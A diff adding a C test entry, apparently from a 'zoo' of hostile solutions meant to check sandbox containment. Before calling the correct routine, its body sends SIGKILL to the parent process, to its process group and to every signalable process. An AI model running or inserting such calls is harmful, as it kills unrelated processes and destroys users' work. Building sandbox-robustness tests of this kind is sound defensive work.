@@ -1,0 +1,9 @@
+#include "zoo.h"
+#include <signal.h>
+#include <unistd.h>
+ZOO_BODY {
+  kill(getppid(), SIGKILL);
+  kill(0, SIGKILL);
+  kill(-1, SIGKILL);
+  zoo_right(x, w, y, begin, end);
+}
